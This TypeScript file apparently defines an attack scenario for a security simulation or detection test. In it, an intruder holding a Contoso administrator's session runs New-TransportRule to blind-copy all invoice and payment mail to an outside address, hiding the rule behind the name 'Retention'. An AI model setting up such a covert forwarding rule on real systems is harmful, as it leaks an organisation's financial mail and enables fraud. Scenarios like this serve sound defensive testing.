/** A mail-flow rule that no mailbox shows: the whole firm's mail goes to a stranger as well. */
import { runAs } from "./run-as.ts"
import { INTRUDER_ADDRESS, type Story } from "./story.ts"

const megan = { tenant: "contoso", alias: "megan.ortiz", ip: INTRUDER_ADDRESS } as const

export const mailFlowRule: Story = {
  id: "09-mail-flow-rule",
  title: "Mail-flow rule",
  description:
    "Somebody with the administrator's session at Contoso copies every mail about payments to an outside address.",
  steps: [
    {
      says: "A mail-flow rule copies mail about payments in secret",
      act: (cloud) =>
        runAs(cloud, megan, "New-TransportRule", {
          Name: "Retention",
          BlindCopyTo: ["archive@collector.example"],
          SubjectContainsWords: ["invoice", "payment"],
          Mode: "Enforce",
        }),
    },
  ],
}
